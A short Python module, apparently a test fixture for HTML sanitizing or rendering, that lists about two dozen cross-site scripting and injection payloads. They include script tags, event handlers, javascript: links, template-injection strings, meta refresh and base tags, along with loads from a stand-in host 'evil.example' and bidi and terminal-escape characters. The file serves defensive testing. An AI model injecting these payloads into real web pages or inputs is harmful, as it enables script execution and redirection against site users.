"""Text that wants to run, to load something from elsewhere, or to break out of wherever it is put."""

from __future__ import annotations

MARK = "globalThis.__struck=1"
ELSEWHERE = "https://evil.example"

PAYLOADS = (
    f"<script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"<img src={ELSEWHERE}/p.png>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f'"><body onload={MARK}>',
    f"' onmouseover='{MARK}' x='",
    f"<a href='javascript:{MARK}'>x</a>",
    f"javascript:{MARK}",
    f"[x](javascript:{MARK}) ![p]({ELSEWHERE}/q.png)",
    f"<style>@import '{ELSEWHERE}/s.css';</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/t.css>",
    f"<math><mtext></mtext><img src=x onerror={MARK}></math>",
    "{{constructor.constructor('" + MARK + "')()}}",
    "${" + MARK + "} `${" + MARK + "}`",
    f"<template><img src=x onerror={MARK}></template>",
    f"<details open ontoggle={MARK}>",
    f"--><!--<script>{MARK}</script>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<form action={ELSEWHERE}><input autofocus onfocus={MARK}>",
    f"\u202e<script>{MARK}</script>\u202c \x1b]8;;{ELSEWHERE}\x1b\\x\x1b]8;;\x1b\\ \x00 \ud800 \u2028 \u200b",
)
TEXT = "\n".join(PAYLOADS)
LINE = " ".join(PAYLOADS).replace("\x00", "")
